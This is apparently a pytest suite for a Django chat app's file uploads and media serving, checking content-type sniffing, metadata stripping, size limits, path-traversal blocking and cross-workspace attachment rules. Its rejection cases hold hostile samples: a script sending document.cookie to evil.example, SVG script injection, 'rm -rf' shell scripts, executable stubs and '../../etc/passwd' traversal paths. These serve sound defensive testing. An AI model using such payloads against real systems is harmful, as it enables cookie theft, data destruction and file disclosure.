"""Chat attachments: POST /api/v1/uploads (type decided by content), GET /media/... (safe
headers, nothing outside MEDIA_ROOT/uploads), and customers attaching only their own uploads."""

import io
import os
import re
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client

from chat import image_metadata, uploads
from chat.models import Message, StoredUpload
from conftest import verified_client

pytestmark = [pytest.mark.django_db]

MB = 1024 * 1024


def png_bytes(width=3, height=2, padding=b""):
    """A real, minimal PNG (8-bit greyscale), optionally with an ancillary chunk to grow it."""

    def chunk(kind, data):
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data) & 0xFFFFFFFF)

    raw = b"".join(b"\x00" + b"\x80" * width for _ in range(height))
    extra = chunk(b"teXt", b"pad\x00" + padding) if padding else b""
    return (b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0))
            + extra + chunk(b"IDAT", zlib.compress(raw)) + chunk(b"IEND", b""))


def jpeg_bytes(width=30, height=20):
    app0 = b"\xff\xe0" + struct.pack(">H", 16) + b"JFIF\x00\x01\x01\x00\x00\x01\x00\x01\x00\x00"
    sof = b"\xff\xc0" + struct.pack(">HBHHB", 17, 8, height, width, 3) + b"\x01\x22\x00\x02\x11\x01\x03\x11\x01"
    return b"\xff\xd8" + app0 + sof + b"\xff\xda\x00\x08\x01\x01\x00\x00\x3f\x00" + b"\x00" * 16 + b"\xff\xd9"


def gif_bytes(width=7, height=5):
    return b"GIF89a" + struct.pack("<HH", width, height) + b"\x00\x00\x00" + b"\x2c" + b"\x00" * 9 + b"\x02\x02\x44\x01\x00\x3b"


def webp_vp8x_bytes(width=640, height=480):
    """An extended WebP: the VP8X header (the canvas size) and its lossless image chunk."""
    image = webp_vp8l_bytes(width, height)[12:]
    body = (b"WEBP" + b"VP8X" + struct.pack("<I", 10) + b"\x00\x00\x00\x00" + (width - 1).to_bytes(3, "little")
            + (height - 1).to_bytes(3, "little") + image)
    return b"RIFF" + struct.pack("<I", len(body)) + body


def webp_vp8l_bytes(width=100, height=50):
    bits = (width - 1) | ((height - 1) << 14)
    data = b"\x2f" + bits.to_bytes(4, "little") + b"\x00" * 8
    body = b"WEBP" + b"VP8L" + struct.pack("<I", len(data)) + data + b"\x00" * (len(data) % 2)  # chunks are padded to even sizes
    return b"RIFF" + struct.pack("<I", len(body)) + body


def zip_bytes(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w") as archive:
        for name, data in files.items():
            archive.writestr(name, data)
    return buffer.getvalue()


DOCX = {"[Content_Types].xml": "<Types/>", "_rels/.rels": "<Relationships/>", "word/document.xml": "<w:document/>"}
SVG = b'<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg"><script>alert(document.cookie)</script></svg>'
HTML = b"<!DOCTYPE html><html><body><script>fetch('/api/v1/conversations')</script></body></html>"
EXE = b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run in DOS mode."


@pytest.fixture
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path / "media"
    settings.MEDIA_URL = "/media/"
    return settings.MEDIA_ROOT


def stored_files(root):
    return sorted(p for p in Path(root).rglob("*") if p.is_file()) if Path(root).exists() else []


def customer_client(token):
    return Client(HTTP_AUTHORIZATION=f"Customer {token}", HTTP_ACCEPT_LANGUAGE="en")


def agent_client(user):
    return verified_client(user, Client(HTTP_ACCEPT_LANGUAGE="en"))


def upload(client, name, data, content_type="application/octet-stream"):
    return client.post("/api/v1/uploads", {"file": SimpleUploadedFile(name, data, content_type=content_type)})


def test_agent_uploads_a_png_sends_it_and_it_is_served_safely(personas, media, sender):
    first, _ = sender(personas.visitor, "my screen")
    agent = agent_client(personas.agent_a_user)
    png = png_bytes(3, 2)
    r = upload(agent, "Screen shot.png", png, "image/png")
    assert r.status_code == 201, r.content
    att = r.json()
    assert att["kind"] == "image" and att["content_type"] == "image/png"
    assert (att["width"], att["height"]) == (3, 2)
    assert att["name"] == "Screen shot.png" and att["size"] == len(png)
    assert re.fullmatch(rf"/media/uploads/{personas.workspace.pk}/\d{{4}}/\d{{2}}/[0-9a-f]{{32}}\.png", att["url"])
    files = stored_files(media)
    assert len(files) == 1 and files[0].read_bytes() == png
    assert files[0].relative_to(media).as_posix() == att["url"].removeprefix("/media/")

    sent = agent.post(f"/api/v1/conversations/{first.conversation_id}/messages",
                      {"client_msg_id": "img-1", "type": "image", "attachments": [att]}, content_type="application/json")
    assert sent.status_code == 201, sent.content
    stored = Message.objects.get(pk=sent.json()["message"]["id"])
    assert stored.msg_type == "image"
    assert stored.attachments == [{"url": att["url"], "name": "Screen shot.png", "size": len(png), "content_type": "image/png",
                                   "kind": "image", "width": 3, "height": 2}]

    served = Client().get(att["url"])
    assert served.status_code == 200
    assert b"".join(served.streaming_content) == png
    assert served["Content-Type"] == "image/png"
    assert served["X-Content-Type-Options"] == "nosniff"
    assert served["Content-Security-Policy"] == "default-src 'none'; img-src 'self'; sandbox"
    assert served["Content-Disposition"].startswith("inline")
    assert "immutable" in served["Cache-Control"] and "max-age=31536000" in served["Cache-Control"]


def test_customer_uploads_a_pdf_with_the_visitor_token_and_sends_it(personas, media):
    customer = customer_client(personas.visitor_token)
    pdf = b"%PDF-1.4\n1 0 obj << /Type /Catalog >> endobj\ntrailer << /Root 1 0 R >>\n%%EOF\n"
    r = upload(customer, "invoice.pdf", pdf, "application/pdf")
    assert r.status_code == 201, r.content
    att = r.json()
    assert att["kind"] == "file" and att["content_type"] == "application/pdf" and att["url"].endswith(".pdf")
    assert "width" not in att

    sent = customer.post("/api/v1/customer/messages", {"client_msg_id": "f-1", "type": "file", "attachments": [att]},
                         content_type="application/json")
    assert sent.status_code == 201, sent.content
    message = Message.objects.get(pk=sent.json()["message"]["id"])
    assert message.msg_type == "file" and message.attachments[0]["url"] == att["url"]
    assert message.attachments[0]["kind"] == "file" and message.attachments[0]["content_type"] == "application/pdf"

    served = Client().get(att["url"])
    assert served.status_code == 200 and b"".join(served.streaming_content) == pdf
    assert served["Content-Type"] == "application/pdf"
    assert served["Content-Disposition"].startswith("attachment")
    assert served["X-Content-Type-Options"] == "nosniff" and "sandbox" in served["Content-Security-Policy"]


@pytest.mark.parametrize(
    "name,data,content_type,ext,kind,dims",
    [
        ("photo.jpeg", jpeg_bytes(30, 20), "image/jpeg", "jpg", "image", (30, 20)),
        ("anim.gif", gif_bytes(7, 5), "image/gif", "gif", "image", (7, 5)),
        ("pic.webp", webp_vp8x_bytes(640, 480), "image/webp", "webp", "image", (640, 480)),
        ("lossless.webp", webp_vp8l_bytes(100, 50), "image/webp", "webp", "image", (100, 50)),
        ("no-extension", png_bytes(4, 4), "application/octet-stream", "png", "image", (4, 4)),  # content decides
        ("report.docx", zip_bytes(DOCX), "application/octet-stream", "docx", "file", None),
        ("sheet.xlsx", zip_bytes({"[Content_Types].xml": "<Types/>", "xl/workbook.xml": "<workbook/>"}), "", "xlsx", "file", None),
        ("slides.pptx", zip_bytes({"[Content_Types].xml": "<Types/>", "ppt/presentation.xml": "<p/>"}), "", "pptx", "file", None),
        ("logs.zip", zip_bytes({"a.log": "line"}), "application/zip", "zip", "file", None),
        ("notes.txt", "order 42 <3 谢谢\n".encode(), "text/plain", "txt", "file", None),
        ("voice.mp3", b"ID3\x03\x00\x00\x00\x00\x00\x00" + b"\xff\xfb\x90\x00" + b"\x00" * 64, "audio/mpeg", "mp3", "file", None),
        ("voice.m4a", struct.pack(">I", 24) + b"ftypM4A \x00\x00\x00\x00M4A isom" + b"\x00" * 32, "audio/mp4", "m4a", "file", None),
        ("clip.mov", struct.pack(">I", 24) + b"ftypisom\x00\x00\x02\x00isomiso2" + b"\x00" * 32, "video/quicktime", "mp4", "file", None),
    ],
)
def test_allowed_types_are_recognised_by_content(personas, media, name, data, content_type, ext, kind, dims):
    r = upload(agent_client(personas.agent_a_user), name, data, content_type)
    assert r.status_code == 201, r.content
    att = r.json()
    assert att["url"].endswith(f".{ext}") and att["kind"] == kind and att["content_type"] == uploads.TYPES[ext][0]
    assert (att.get("width"), att.get("height")) == (dims or (None, None))
    [stored] = stored_files(media)
    assert stored.suffix == f".{ext}" and stored.read_bytes() == data


def segment(marker, payload):
    return bytes((0xFF, marker)) + struct.pack(">H", len(payload) + 2) + payload


GPS = b"GPSLatitude 31.2304N GPSLongitude 121.4737E"


def test_a_phone_photo_is_stored_without_where_it_was_taken(personas, media):
    """A customer's photo loses its EXIF (where and when it was taken, the phone), XMP and comments
    before it is stored (chat.image_metadata, as for the widget's avatar); what draws it is kept byte
    for byte, and the size answered and counted is the stored one."""
    plain = jpeg_bytes(30, 20)
    photo = plain[:2] + segment(0xE1, b"Exif\x00\x00MM\x00\x2a" + GPS) + segment(0xE1, b"http://ns.adobe.com/xap/1.0/\x00" + GPS) + plain[2:]
    r = upload(customer_client(personas.visitor_token), "IMG_0001.JPG", photo, "image/jpeg")
    assert r.status_code == 201, r.content
    [stored] = stored_files(media)
    assert stored.read_bytes() == plain and b"GPS" not in stored.read_bytes()
    assert r.json()["size"] == len(plain) and (r.json()["width"], r.json()["height"]) == (30, 20)
    assert StoredUpload.objects.get().size == len(plain)

    png = png_bytes(3, 2, padding=GPS)  # a text chunk
    r = upload(agent_client(personas.agent_a_user), "screen.png", png, "image/png")
    assert r.status_code == 201 and r.json()["size"] == len(png_bytes(3, 2))
    assert {p.read_bytes() for p in stored_files(media)} == {plain, png_bytes(3, 2)}


def test_a_picture_whose_structure_does_not_add_up_is_refused_and_not_stored(personas, media):
    plain = jpeg_bytes(30, 20)
    customer = Client(HTTP_AUTHORIZATION=f"Customer {personas.visitor_token}", HTTP_ACCEPT_LANGUAGE="zh-hans")
    for broken in (plain[:-2],  # no end of image
                   plain[:2] + b"\xff\xfe\x00\x02" * (image_metadata.MAX_PARTS + 1) + plain[2:]):  # 10,001 empty comments
        r = upload(customer, "photo.jpg", broken, "image/jpeg")
        assert r.status_code == 400 and r.json()["error"]["code"] == "unreadable_image"
        assert r.json()["error"]["message"] == "无法读取这张图片，请重新发送，例如发送截图。"
    assert stored_files(media) == [] and not StoredUpload.objects.exists()
    many = plain[:2] + b"\xff\xfe\x00\x02" * 100 + plain[2:]  # a hundred comments: well within the bound, dropped
    assert image_metadata.strip("jpg", many) == plain


@pytest.mark.parametrize(
    "name,data,content_type",
    [
        ("x.png", HTML, "image/png"),  # a page dressed as an image
        ("x.png", b"alert(document.cookie)\n", "image/png"),  # a script dressed as an image
        ("drawing.svg", SVG, "image/svg+xml"),
        ("drawing.png", SVG, "image/png"),
        ("page.txt", HTML, "text/plain"),
        ("feed.xml", b'<?xml version="1.0"?><rss/>', "text/xml"),
        ("app.js", b"document.location = 'https://evil.example/?' + document.cookie;\n", "text/plain"),
        ("setup.exe", EXE, "application/octet-stream"),
        ("photo.jpg", EXE, "image/jpeg"),  # a program claiming to be a photo
        ("tool", b"\x7fELF\x02\x01\x01" + b"\x00" * 57, "application/octet-stream"),
        ("run.txt", b"#!/bin/sh\nrm -rf ~\n", "text/plain"),
        ("blob.bin", bytes(range(256)), "application/octet-stream"),
        ("macro.docx", zip_bytes({**DOCX, "word/vbaProject.bin": "x"}), "application/octet-stream"),
        ("broken.zip", b"PK\x03\x04 not really a zip", "application/zip"),
        ("photo.heic", struct.pack(">I", 24) + b"ftypheic\x00\x00\x00\x00mif1heic" + b"\x00" * 32, "image/heic"),
    ],
)
def test_disallowed_content_is_refused_and_nothing_is_written(personas, media, name, data, content_type):
    r = upload(agent_client(personas.agent_a_user), name, data, content_type)
    assert r.status_code == 400
    error = r.json()["error"]
    assert error["code"] == "file_type_not_allowed" and error["message"]
    assert stored_files(media) == []


def test_size_limits_are_clear_400s_and_nothing_is_written(personas, media, settings):
    settings.CHAT = {**settings.CHAT, "MAX_UPLOAD_BYTES": 2 * MB, "MAX_IMAGE_BYTES": 1 * MB}
    customer = customer_client(personas.visitor_token)

    way_over = upload(customer, "big.txt", b"a" * (2 * MB + 200_000), "text/plain")  # refused from Content-Length
    just_over = upload(customer, "big.txt", b"a" * (2 * MB + 1), "text/plain")  # refused after parsing
    big_image = upload(customer, "big.png", png_bytes(padding=b"x" * MB), "image/png")  # under the file limit, over the image one
    for r, limit in ((way_over, "2 MB"), (just_over, "2 MB"), (big_image, "1 MB")):
        assert r.status_code == 400
        assert r.json()["error"]["code"] == "file_too_large"
        assert limit in r.json()["error"]["message"]
    assert "image" in big_image.json()["error"]["message"]
    assert stored_files(media) == []

    at_limit = upload(customer, "ok.txt", b"a" * (2 * MB), "text/plain")
    assert at_limit.status_code == 201 and at_limit.json()["size"] == 2 * MB


def test_empty_or_missing_file_and_errors_are_translated(personas, media):
    customer = customer_client(personas.visitor_token)
    empty = upload(customer, "empty.txt", b"", "text/plain")
    assert empty.status_code == 400 and empty.json()["error"]["code"] == "empty_file"
    missing = customer.post("/api/v1/uploads", {"other": "x"})
    assert missing.status_code == 400 and missing.json()["error"]["code"] == "file_missing"
    assert stored_files(media) == []


def test_unauthenticated_uploads_are_refused(personas, media):
    anonymous = upload(Client(), "x.png", png_bytes())
    assert anonymous.status_code in (401, 403) and anonymous.json()["error"]["code"] in ("unauthenticated", "not_authenticated")
    forged = upload(Client(HTTP_AUTHORIZATION="Customer forged"), "x.png", png_bytes())
    assert forged.status_code == 401
    assert stored_files(media) == []


def test_media_serves_only_stored_uploads(personas, media, tmp_path):
    att = upload(customer_client(personas.visitor_token), "a.txt", b"hello\n", "text/plain").json()
    ok = Client().get(att["url"])
    assert ok.status_code == 200 and ok["Content-Type"] == "text/plain; charset=utf-8"
    assert ok["Content-Disposition"].startswith("attachment") and ok["X-Content-Type-Options"] == "nosniff"

    # Files a naive join would reach: in MEDIA_ROOT but outside uploads, and next to MEDIA_ROOT.
    (media / "x").write_text("secret")
    (tmp_path / "settings.py").write_text("SECRET_KEY = 'x'")
    outside = tmp_path / "outside.png"
    outside.write_bytes(png_bytes())
    folder = Path(media, att["url"].removeprefix("/media/")).parent
    link = folder / ("b" * 32 + ".png")
    os.symlink(outside, link)  # a well-formed name that points out of the uploads folder
    for url in (
        "/media/../../settings.py",
        "/media/../settings.py",
        "/media/uploads/../x",
        "/media/uploads/%2e%2e/x",
        "/media/x",
        att["url"].replace("/media/uploads/", "/media/uploads/../uploads/"),
        att["url"][:-4] + ".html",
        "/media/uploads/" + link.relative_to(media / "uploads").as_posix(),
        f"/media/uploads/{personas.workspace.pk}/2020/01/{'c' * 32}.png",  # well-formed, absent
    ):
        assert Client().get(url).status_code == 404, url
    assert Client().post(att["url"]).status_code == 405


def test_customers_attach_only_their_workspace_uploads(personas, media):
    customer = customer_client(personas.visitor_token)
    other = upload(customer_client(personas.other_visitor_token), "theirs.png", png_bytes(), "image/png").json()
    mine = upload(customer, "mine.png", png_bytes(), "image/png").json()
    bad_urls = [
        "https://evil.example/pixel.png",
        "//evil.example/pixel.png",
        other["url"],  # another workspace's file
        mine["url"].replace(f"/uploads/{personas.workspace.pk}/", f"/uploads/{personas.workspace.pk}/../{personas.other_workspace.pk}/"),
        "/api/v1/conversations",
        f"/media/uploads/{personas.workspace.pk}/x.png",
    ]
    for i, url in enumerate(bad_urls):
        r = customer.post("/api/v1/customer/messages",
                          {"client_msg_id": f"bad-{i}", "type": "image", "attachments": [{**mine, "url": url}]}, content_type="application/json")
        assert r.status_code == 400, url
        assert r.json()["error"] == {"code": "invalid_attachments", "message": "Only files uploaded to this chat can be attached, not links."}
    # Also a text message carrying a link as an attachment.
    r = customer.post("/api/v1/customer/messages", {"client_msg_id": "bad-text", "body": "hi", "attachments": [{"url": "https://evil.example/"}]},
                      content_type="application/json")
    assert r.status_code == 400 and r.json()["error"]["code"] == "invalid_attachments"
    assert Message.objects.count() == 0

    # A forged kind or content type is replaced by what the stored name says.
    ok = customer.post("/api/v1/customer/messages",
                       {"client_msg_id": "good", "type": "image", "attachments": [{**mine, "kind": "file", "content_type": "text/html"}]},
                       content_type="application/json")
    assert ok.status_code == 201
    assert Message.objects.get().attachments[0] == {**mine, "kind": "image", "content_type": "image/png"}


def test_agents_keep_sending_links_for_cards(personas, media, sender):
    first, _ = sender(personas.visitor, "which size?")
    agent = agent_client(personas.agent_a_user)
    r = agent.post(f"/api/v1/conversations/{first.conversation_id}/messages",
                   {"client_msg_id": "card-1", "type": "card", "body": "Size guide",
                    "attachments": [{"url": "https://shop.example/size-guide", "name": "Size guide"}]}, content_type="application/json")
    assert r.status_code == 201, r.content
    assert Message.objects.get(pk=r.json()["message"]["id"]).attachments == [{"url": "https://shop.example/size-guide", "name": "Size guide", "size": 0}]


@pytest.mark.parametrize(
    "raw,expected",
    [
        ("../../etc/passwd", "passwd"),
        ("C:\\Users\\me\\Desktop\\photo.png", "photo.png"),
        ("inv\u202egnp.exe", "invgnp.exe"),  # right-to-left override stripped
        ("a\x00b\x1fc.txt", "abc.txt"),
        ("", "image.png"),
        ("x" * 200 + ".png", "x" * 116 + ".png"),
    ],
)
def test_display_names_are_sanitised(raw, expected):
    assert uploads.clean_display_name(raw, "png") == expected


def test_a_large_upload_spooled_to_disk_is_sniffed_and_stored(personas, media):
    """Over FILE_UPLOAD_MAX_MEMORY_SIZE (2.5 MB) Django hands over a temporary file: same checks, same result."""
    data = zip_bytes({"video-frames.bin": os.urandom(3 * MB)})
    r = upload(customer_client(personas.visitor_token), "frames.zip", data, "application/zip")
    assert r.status_code == 201, r.content
    assert r.json()["kind"] == "file" and r.json()["content_type"] == "application/zip" and r.json()["size"] == len(data)
    [stored] = stored_files(media)
    assert stored.suffix == ".zip" and stored.read_bytes() == data


def test_a_channel_customer_attaches_only_its_own_inbox_media_address(personas):
    """WeChat media arrive as /channels/media/<inbox key>/<media id> (fetched on first view): the
    channel's customer may attach their own inbox's address, never another inbox's."""
    from chat import messages as chat_messages
    from helpdesk.errors import DomainError

    own = f"/channels/media/{personas.inbox_a.public_key}/MEDIA_id-1"
    message, _created = chat_messages.send_message(personas.visitor, client_msg_id="wx:1", msg_type="image",
                                                   attachments=[{"url": own, "name": "图片.jpg"}])
    assert message.attachments[0]["kind"] == "image" and message.attachments[0]["content_type"] == "image/jpeg"
    voice, _created = chat_messages.send_message(personas.visitor, client_msg_id="wx:2", msg_type="file",
                                                 attachments=[{"url": f"/channels/media/{personas.inbox_a.public_key}/v1", "name": "voice.amr"}])
    assert voice.attachments[0]["content_type"] == "audio/amr"
    for n, url in enumerate((f"/channels/media/{personas.inbox_b.public_key}/MEDIA_id-1", "/channels/media/../etc/passwd", "/channels/media/x")):
        with pytest.raises(DomainError) as refused:
            chat_messages.send_message(personas.visitor, client_msg_id=f"wx:bad-{n}", msg_type="image", attachments=[{"url": url, "name": "a.jpg"}])
        assert refused.value.code == "invalid_attachments"


def test_wechat_voice_recordings_are_accepted_as_mp3(personas, media):
    """A phone's WeChat voice file (AMR starts with "#!", SILK with "\\x02#!SILK_V3") was refused as a
    script; it is converted to MP3 (what browsers play), a customer's and an agent's upload alike."""
    from connectors.tests.test_media import amr_sample, silk_sample

    for client, name, data in ((customer_client(personas.visitor_token), "语音.amr", amr_sample()),
                               (agent_client(personas.agent_a_user), "voice.silk", silk_sample())):
        r = upload(client, name, data, "audio/amr")
        assert r.status_code == 201, r.content
        att = r.json()
        assert att["content_type"] == "audio/mpeg" and att["url"].endswith(".mp3")
        assert att["name"] == name.rsplit(".", 1)[0] + ".mp3"
    assert len(stored_files(media)) == 2 and all(f.suffix == ".mp3" for f in stored_files(media))
    # Sent, the console plays it inline.
    customer = customer_client(personas.visitor_token)
    voice = upload(customer, "语音.amr", amr_sample(), "audio/amr").json()
    sent = customer.post("/api/v1/customer/messages", {"client_msg_id": "voice-1", "type": "file", "attachments": [voice]},
                         content_type="application/json")
    assert sent.status_code == 201, sent.content
    pane = agent_client(personas.agent_a_user).get(f"/console/c/{sent.json()['message']['conversation_id']}/pane/").content.decode()
    assert f'<audio class="msg__voice" controls preload="none" src="{voice["url"]}"' in pane
    # A damaged recording is a clear error and nothing is written; a real script still is refused.
    assert upload(customer_client(personas.visitor_token), "x.amr", b"#!AMR\nbroken").json()["error"]["code"] == "voice_unreadable"
    assert upload(customer_client(personas.visitor_token), "x.sh", b"#!/bin/sh\nrm -rf /").json()["error"]["code"] == "file_type_not_allowed"
    assert len(stored_files(media)) == 3
